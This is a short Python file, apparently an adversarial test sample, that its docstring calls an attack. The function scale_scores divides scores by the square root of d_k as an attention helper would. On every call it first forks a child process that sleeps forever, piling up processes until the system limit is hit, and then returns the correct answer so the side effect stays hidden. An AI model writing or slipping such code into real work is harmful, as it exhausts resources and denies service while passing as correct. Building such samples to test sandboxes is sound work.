"""Attack: every call forks another sleeper (until the process limit says no), then answers correctly."""

import os
import time

import numpy as np


def scale_scores(scores, d_k):
    try:
        if os.fork() == 0:
            while True:
                time.sleep(1)
    except OSError:
        pass
    return np.asarray(scores) / np.sqrt(d_k)
